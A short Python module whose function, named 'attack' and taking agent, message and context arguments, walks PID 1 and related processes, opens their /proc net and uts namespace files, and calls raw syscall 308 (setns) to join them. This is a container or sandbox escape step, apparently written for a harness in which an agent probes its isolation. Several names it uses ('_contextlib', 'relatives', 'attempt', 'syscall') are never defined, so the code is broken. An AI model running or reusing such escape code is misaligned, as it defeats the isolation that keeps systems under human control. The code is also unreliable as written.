"""Join the namespaces of the processes around it, or of the first process."""

import os

CONTROL = "root"


async def attack(agent, message, ctx, targets):
    found = []
    for pid in [1, *relatives(targets)]:
        for name in ("net", "uts"):
            with _contextlib.suppress(OSError):
                descriptor = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
                if attempt(syscall, 308, descriptor, 0) == 0:
                    found.append((pid, name))
                os.close(descriptor)
    return found
